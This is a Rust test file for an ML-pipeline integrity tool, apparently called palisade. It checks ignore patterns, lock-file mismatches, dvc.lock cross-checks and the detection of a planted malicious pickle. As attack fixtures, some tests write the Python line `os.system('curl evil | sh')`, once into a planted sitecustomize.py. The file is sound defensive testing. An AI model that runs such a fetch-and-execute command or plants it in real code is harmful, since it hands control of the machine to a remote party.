//! End-to-end tests of issue 14 item 6, what a first user tripped on: explicit `ignore`
//! patterns per artifact (a `__pycache__/` written by Python made the code a critical integrity
//! mismatch), and `dvc.lock` cross-checks as integrity facts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::path::Path;

use super::copy_dir;
use super::{AT, palisade, root, violations};

/// The baseline's `integrity-mismatch` rule, plus a rule that permits everything else.
fn mismatch_pack() -> String {
    let text = fs::read_to_string(root().join("policies/baseline/integrity.cedar")).unwrap();
    let mut pack = String::from("@id(\"allow-all\")\npermit (principal, action, resource);\n\n");
    for block in text.split("\n\n") {
        if block.contains("@id(\"integrity-mismatch\")") {
            pack.push_str(block);
            pack.push_str("\n\n");
        }
    }
    assert!(pack.contains("integrity-mismatch"));
    pack
}

/// A scikit-learn style project: `src/` trains a model from `data/train.csv`.
fn sklearn_project(ignore: Option<&str>) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::create_dir_all(d.join("policies")).unwrap();
    fs::write(d.join("policies/integrity.cedar"), mismatch_pack()).unwrap();
    fs::create_dir_all(d.join("src/features")).unwrap();
    fs::write(
        d.join("src/train.py"),
        "from features import build\nbuild()\n",
    )
    .unwrap();
    fs::write(
        d.join("src/features/__init__.py"),
        "def build():\n    pass\n",
    )
    .unwrap();
    fs::create_dir_all(d.join("data")).unwrap();
    fs::write(d.join("data/train.csv"), "x,y\n1,0\n2,1\n").unwrap();
    fs::write(d.join("model.safetensors"), b"weights").unwrap();
    write_pipeline(d, ignore);
    dir
}

fn write_pipeline(d: &Path, ignore: Option<&str>) {
    let ignore = ignore.map_or_else(String::new, |i| format!("ignore = {i}"));
    fs::write(
        d.join("pipeline.pal"),
        format!(
            r#"pipeline "sklearn" {{
  policies = ["policies"]
  code "src" {{
    path = "src"
    {ignore}
  }}
  dataset "train" {{ path = "data/train.csv" }}
  model "m" {{ path = "model.safetensors" format = "safetensors" }}
  stage "fit" {{ inputs = [code "src", dataset "train"] outputs = [model "m"] }}
  release "prod" {{ artifacts = [model "m"] environment = "production" exposure = "internal" }}
}}
"#
        ),
    )
    .unwrap();
}

/// What running `python src/train.py` leaves behind.
fn python_runs(d: &Path) {
    fs::create_dir_all(d.join("src/features/__pycache__")).unwrap();
    fs::write(
        d.join("src/features/__pycache__/__init__.cpython-312.pyc"),
        b"\xcb\r\r\n\x00\x00\x00\x00bytecode",
    )
    .unwrap();
}

fn lock(d: &Path) {
    let run = palisade(d, &["lock"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
}

fn evaluate_json(d: &Path) -> super::Run {
    palisade(d, &["evaluate", "--at", AT, "--format", "json"])
}

#[test]
fn a_pycache_without_ignore_is_still_an_integrity_mismatch() {
    let dir = sklearn_project(None);
    let d = dir.path();
    lock(d);
    assert_eq!(evaluate_json(d).code, 0);
    python_runs(d);
    let run = evaluate_json(d);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        violations(&run).contains(&("integrity-mismatch".to_owned(), "Code::\"src\"".to_owned())),
        "{}",
        run.stdout
    );
}

#[test]
fn ignore_leaves_pycache_out_of_the_lock_and_the_check() {
    let dir = sklearn_project(Some(r#"["__pycache__/", "*.pyc"]"#));
    let d = dir.path();
    lock(d);
    let lock_text = fs::read_to_string(d.join("palisade.lock")).unwrap();
    assert!(lock_text.contains("\"ignore\": ["), "{lock_text}");
    python_runs(d);
    // A stray .pyc outside __pycache__ too.
    fs::write(d.join("src/train.cpython-312.pyc"), b"x").unwrap();
    let run = evaluate_json(d);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let run = palisade(d, &["lock", "--check"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    // The lock itself names no ignored file.
    assert!(!lock_text.contains("cpython"), "{lock_text}");
    // A real source change is still caught.
    fs::write(
        d.join("src/train.py"),
        "import os; os.system('curl evil | sh')\n",
    )
    .unwrap();
    let run = evaluate_json(d);
    assert_eq!(run.code, 1, "{}", run.stderr);
}

/// The attack: after the lock, plant `sitecustomize.py` (Python runs it at start-up) and add
/// an ignore pattern that leaves it out of the digest. Every locked file still matches, so
/// without the ignore list in the lock the gate would pass.
#[test]
fn adding_an_ignore_pattern_without_relocking_is_a_mismatch() {
    let dir = sklearn_project(Some(r#"["__pycache__/"]"#));
    let d = dir.path();
    lock(d);
    fs::write(
        d.join("src/sitecustomize.py"),
        "import os; os.system('curl evil | sh')\n",
    )
    .unwrap();
    write_pipeline(d, Some(r#"["__pycache__/", "sitecustomize.py"]"#));
    let run = evaluate_json(d);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        violations(&run).contains(&("integrity-mismatch".to_owned(), "Code::\"src\"".to_owned())),
        "{}",
        run.stdout
    );
    let explain = palisade(d, &["explain", "--at", AT, "code", "src"]);
    assert!(
        explain.stdout.contains("ignore patterns changed"),
        "{}\n{}",
        explain.stdout,
        explain.stderr
    );
    let run = palisade(d, &["lock", "--check"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("~ code src"), "{}", run.stdout);
    // Hiding a locked file is caught either way (the lock lists it: removed).
    fs::remove_file(d.join("src/sitecustomize.py")).unwrap();
    write_pipeline(d, Some(r#"["__pycache__/", "train.py"]"#));
    assert_eq!(evaluate_json(d).code, 1);
    // Removing a pattern is a mismatch too (the list must match exactly).
    write_pipeline(d, None);
    let run = evaluate_json(d);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
}

#[test]
fn a_refused_ignore_pattern_is_a_check_error_with_its_place() {
    let dir = sklearn_project(Some(r#"["__pycache__/", "!keep.py", "../x"]"#));
    let run = palisade(dir.path(), &["check"]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("palisade::syntax::invalid_ignore"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("negation"), "{}", run.stderr);
    assert!(run.stderr.contains("`..`"), "{}", run.stderr);
}

#[test]
fn init_suggests_ignore_for_pycache_as_a_comment_only() {
    let dir = sklearn_project(None);
    let d = dir.path();
    fs::remove_file(d.join("pipeline.pal")).unwrap();
    python_runs(d);
    let run = palisade(d, &["init", "--stdout"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let line = run
        .stdout
        .lines()
        .find(|l| l.contains("__pycache__/"))
        .unwrap_or_else(|| panic!("no suggestion in\n{}", run.stdout));
    assert!(line.trim_start().starts_with("// ignore"), "{line}");
    assert!(line.contains("review"), "{line}");
    // Without a __pycache__ folder there is no suggestion.
    fs::remove_dir_all(d.join("src/features/__pycache__")).unwrap();
    let run = palisade(d, &["init", "--stdout"]);
    assert!(!run.stdout.contains("__pycache__/"), "{}", run.stdout);
}

/// The other attack: leave a malicious pickle out of a model folder's digest with `ignore`,
/// hoping the loader picks it up unscanned. The scanners read every file of the folder anyway.
#[test]
fn an_ignored_file_in_a_model_folder_is_still_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::create_dir_all(d.join("model/extra")).unwrap();
    fs::copy(
        super::cases().join("models-attacks/models/benign.safetensors"),
        d.join("model/weights.safetensors"),
    )
    .unwrap();
    fs::copy(
        super::cases().join("models-attacks/models/protocol0.bin"),
        d.join("model/extra/hook.pkl"),
    )
    .unwrap();
    fs::write(
        d.join("pipeline.pal"),
        r#"pipeline "hidden" {
  policies = ["@baseline"]
  model "m" {
    path = "model"
    ignore = ["extra/"]
  }
  release "prod" { artifacts = [model "m"] environment = "production" exposure = "internal" }
}
"#,
    )
    .unwrap();
    lock(d);
    let lock_text = fs::read_to_string(d.join("palisade.lock")).unwrap();
    assert!(!lock_text.contains("hook.pkl"), "{lock_text}");
    let run = evaluate_json(d);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        violations(&run).contains(&(
            "dangerous-pickle-imports".to_owned(),
            "Model::\"m\"".to_owned()
        )),
        "{}",
        run.stdout
    );
}

/// The repository `dvc repro` made (tests/fixtures/init/dvc-repo), with the pipeline `init`
/// writes for it.
fn dvc_repo() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("dvc-repo");
    copy_dir(&root().join("tests/fixtures/init/dvc-repo"), &dir);
    let _ = fs::remove_file(dir.join("pipeline.pal"));
    let run = palisade(&dir, &["init"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    (tmp, dir)
}

fn dvc_lock_fact(dir: &Path, kind: &str, name: &str) -> String {
    let run = palisade(dir, &["explain", kind, name, "--json", "--at", AT]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let v: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    fn find(v: &serde_json::Value) -> Option<String> {
        match v {
            serde_json::Value::Object(m) => m
                .get("dvc_lock")
                .and_then(|d| d.as_str().map(str::to_owned))
                .or_else(|| m.values().find_map(find)),
            serde_json::Value::Array(a) => a.iter().find_map(find),
            _ => None,
        }
    }
    find(&v).unwrap_or_else(|| panic!("no dvc_lock in {}", run.stdout))
}

#[test]
fn init_names_dvc_lock_and_a_matching_repository_verifies() {
    let (_tmp, dir) = dvc_repo();
    let pipeline = fs::read_to_string(dir.join("pipeline.pal")).unwrap();
    assert!(pipeline.contains("dvc_lock = \"dvc.lock\""), "{pipeline}");
    assert_eq!(dvc_lock_fact(&dir, "dataset", "transactions"), "verified");
    let run = palisade(&dir, &["evaluate", "--at", AT, "--format", "json"]);
    assert!(
        !violations(&run)
            .iter()
            .any(|(p, _)| p == "dvc-lock-mismatch"),
        "{}",
        run.stdout
    );
}

/// The attack: swap the training data after `dvc repro`, then re-run `palisade lock` (anyone
/// who can change the data can re-lock). palisade.lock now matches; dvc.lock still says what
/// `dvc repro` consumed, and the gate denies.
#[test]
fn data_changed_after_dvc_repro_is_denied_even_after_relocking() {
    let (_tmp, dir) = dvc_repo();
    fs::write(
        dir.join("data/transactions.csv"),
        "id,amount,label\n1,10.0,0\n2,99999.0,0\n",
    )
    .unwrap();
    lock(&dir);
    assert_eq!(dvc_lock_fact(&dir, "dataset", "transactions"), "mismatch");
    let run = palisade(&dir, &["evaluate", "--at", AT, "--format", "json"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        violations(&run).contains(&(
            "dvc-lock-mismatch".to_owned(),
            "Dataset::\"transactions\"".to_owned()
        )),
        "{}",
        run.stdout
    );
    assert!(
        !violations(&run)
            .iter()
            .any(|(p, _)| p == "integrity-mismatch"),
        "palisade.lock was refreshed: {}",
        run.stdout
    );
    let explain = palisade(&dir, &["explain", "dataset", "transactions", "--at", AT]);
    assert!(
        explain.stdout.contains("dvc.lock:          mismatch")
            && explain
                .stdout
                .contains("but dvc.lock (stage \"prepare\") records"),
        "{}",
        explain.stdout
    );
    // Without `dvc_lock` in the pipeline nothing is checked (the fact is `absent`).
    let text = fs::read_to_string(dir.join("pipeline.pal")).unwrap();
    let without: String = text
        .lines()
        .filter(|l| !l.trim_start().starts_with("dvc_lock"))
        .map(|l| format!("{l}\n"))
        .collect();
    fs::write(dir.join("pipeline.pal"), without).unwrap();
    assert_eq!(dvc_lock_fact(&dir, "dataset", "transactions"), "absent");
}

#[test]
fn a_missing_dvc_lock_named_by_the_pipeline_is_an_error() {
    let (_tmp, dir) = dvc_repo();
    fs::remove_file(dir.join("dvc.lock")).unwrap();
    let run = palisade(&dir, &["evaluate", "--at", AT]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("dvc_lock"), "{}", run.stderr);
}

/// Issue 14 item 6, first bullet: a case under `policies/tests/` tests `policies/` without
/// naming it (it cannot reach it with `..`), and says which policies it ran with.
#[test]
fn a_case_under_policies_tests_runs_with_its_owner_folder() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::create_dir_all(d.join("policies/tests")).unwrap();
    fs::write(
        d.join("policies/no-pii.cedar"),
        "@id(\"no-pii-release\")\n@severity(\"high\")\n@message(\"{resource} holds pii\")\nforbid (principal, action == Action::\"release\", resource) when { resource.labels.contains(\"pii\") };\n\n@id(\"allow\")\npermit (principal, action, resource);\n",
    )
    .unwrap();
    let case = r#"// expect: deny no-pii-release Dataset::"d"
pipeline "t" {
  dataset "d" { labels = ["pii"] }
  release "r" { artifacts = [dataset "d"] environment = "p" exposure = "public" }
}
"#;
    fs::write(d.join("policies/tests/case.pal"), case).unwrap();
    let run = palisade(d, &["test", "policies/tests"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("ok      case.pal  (ran with: ")
            && run.stdout.contains("no-pii.cedar (2 policies)"),
        "{}",
        run.stdout
    );
    // `..` is still refused, with a hint.
    fs::write(
        d.join("policies/tests/case.pal"),
        case.replace(
            "pipeline \"t\" {",
            "pipeline \"t\" {\n  policies = [\"..\"]",
        ),
    )
    .unwrap();
    let run = palisade(d, &["test", "policies/tests"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("palisade::syntax::path_escapes")
            && run
                .stdout
                .contains("hint: a case cannot name policies above its own folder"),
        "{}",
        run.stdout
    );
    // A case that is not under a policy folder's tests/ keeps today's default.
    fs::create_dir_all(d.join("elsewhere")).unwrap();
    fs::write(d.join("elsewhere/case.pal"), case).unwrap();
    let run = palisade(d, &["test", "elsewhere"]);
    assert!(!run.stdout.contains("no-pii.cedar"), "{}", run.stdout);
}

/// Issue 14 item 3's `--max-age`: caps every summary's age from the command line; an
/// artifact's own `summary_max_age` can only make it stricter.
#[test]
fn max_age_on_the_command_line_caps_summaries() {
    use super::compose::{VERDICT, team_a, team_b};
    let judge = |model: &str, max_age: Option<&str>| {
        let a = tempfile::tempdir().unwrap();
        team_a(a.path(), false);
        let b = tempfile::tempdir().unwrap();
        team_b(b.path(), a.path(), model);
        let mut args = vec![
            "evaluate",
            "--format",
            "json",
            "--at",
            "2026-12-09T00:00:00Z",
            "--no-lock",
        ];
        if let Some(m) = max_age {
            args.extend(["--max-age", m]);
        }
        let run = palisade(b.path(), &args);
        let mut ids: Vec<String> = violations(&run).into_iter().map(|(p, _)| p).collect();
        ids.sort();
        ids
    };
    let denied = vec![
        "invalid-summary".to_owned(),
        "remote-upstream-unverified".to_owned(),
    ];
    // Verified 8 days before --at.
    assert!(judge(VERDICT, None).is_empty());
    assert!(judge(VERDICT, Some("30d")).is_empty());
    assert_eq!(judge(VERDICT, Some("7d")), denied);
    let thirty = format!("{VERDICT}\n    summary_max_age = \"30d\"");
    assert_eq!(judge(&thirty, Some("7d")), denied);
    let seven = format!("{VERDICT}\n    summary_max_age = \"7d\"");
    assert_eq!(judge(&seven, Some("30d")), denied);
    // A malformed value is a usage error.
    let dir = tempfile::tempdir().unwrap();
    let run = palisade(dir.path(), &["evaluate", "--max-age", "30 days"]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
}

/// A FIFO planted as `dvc.lock` is refused at its line (exit 2), never read (a read would hang).
#[cfg(unix)]
#[test]
fn a_fifo_named_as_dvc_lock_is_exit_2_at_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(dir.path().join("dvc.lock"))
        .status()
        .unwrap();
    assert!(made.success());
    fs::write(dir.path().join("d.csv"), "a\n").unwrap();
    fs::write(
        dir.path().join("pipeline.pal"),
        "pipeline \"f\" {\n  dvc_lock = \"dvc.lock\"\n  dataset \"d\" { path = \"d.csv\" }\n}\n",
    )
    .unwrap();
    let run = palisade(dir.path(), &["check", "pipeline.pal"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("pipeline.pal:2:14"), "{}", run.stderr);
    assert!(run.stderr.contains("not a regular file"), "{}", run.stderr);
}
